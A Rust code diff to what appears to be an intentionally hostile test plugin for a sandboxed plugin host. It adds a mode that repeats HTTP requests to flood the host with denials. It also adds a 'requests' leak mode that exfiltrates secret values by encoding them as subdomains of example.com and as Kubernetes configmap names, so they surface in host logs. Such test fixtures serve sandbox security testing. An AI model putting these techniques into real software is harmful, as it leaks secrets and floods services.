@@ -78,11 +78,12 @@ pub struct Config {
     pub verb: Option<String>,
     /// `log`: the line to log.
     pub message: Option<String>,
-    /// `log`: how many times.
+    /// `log`: how many times; `http`: how many times the request is sent.
     pub count: Option<u32>,
     /// The zone of `ok-1`'s offering.
     pub zone: Option<String>,
-    /// `leak`: `error` (default) or `trap`.
+    /// `leak`: `error` (default), `trap`, or `requests` (each value as an ungranted host name
+    /// and as an invalid object name, for what the host logs of them).
     pub leak_by: Option<String>,
     /// `fs`: the file to read (default `/etc/hostname`).
     pub path: Option<String>,
@@ -165,6 +166,10 @@ pub fn run_mode(cfg: &Config) -> Result<Outcome, CloudError> {
             if let Some(body) = &cfg.body {
                 request = request.body(body.as_bytes());
             }
+            // `count` sends it that many times (say, to flood the host with denials).
+            for _ in 1..cfg.count.unwrap_or(1) {
+                let _ = request.send();
+            }
             match request.send() {
                 Ok(r) if r.is_success() => Ok(Outcome::Ok(format!("http-{}", r.status))),
                 Ok(r) => Err(CloudError::internal(format!("http status {}", r.status))),
@@ -233,6 +238,19 @@ pub fn run_mode(cfg: &Config) -> Result<Outcome, CloudError> {
                 .iter()
                 .map(|e| String::from_utf8_lossy(&e.value).into_owned())
                 .collect();
+            if cfg.leak_by.as_deref() == Some("requests") {
+                // Through what the host itself logs: each value as a host name the plugin has
+                // no grant for, and as an object name the host refuses.
+                for value in &values {
+                    let _ = http::Request::new("GET", &format!("http://{value}.example.com/"))
+                        .timeout_ms(1_000)
+                        .send();
+                    let target = kube::ResourceRef::new("", "v1", "configmaps")
+                        .namespace("kube-system".to_string());
+                    let _ = kube::get(&target, value);
+                }
+                return Ok(Outcome::Ok("leak-requests-sent".into()));
+            }
             for value in &values {
                 log::info(format!("the secret is {value}"));
             }
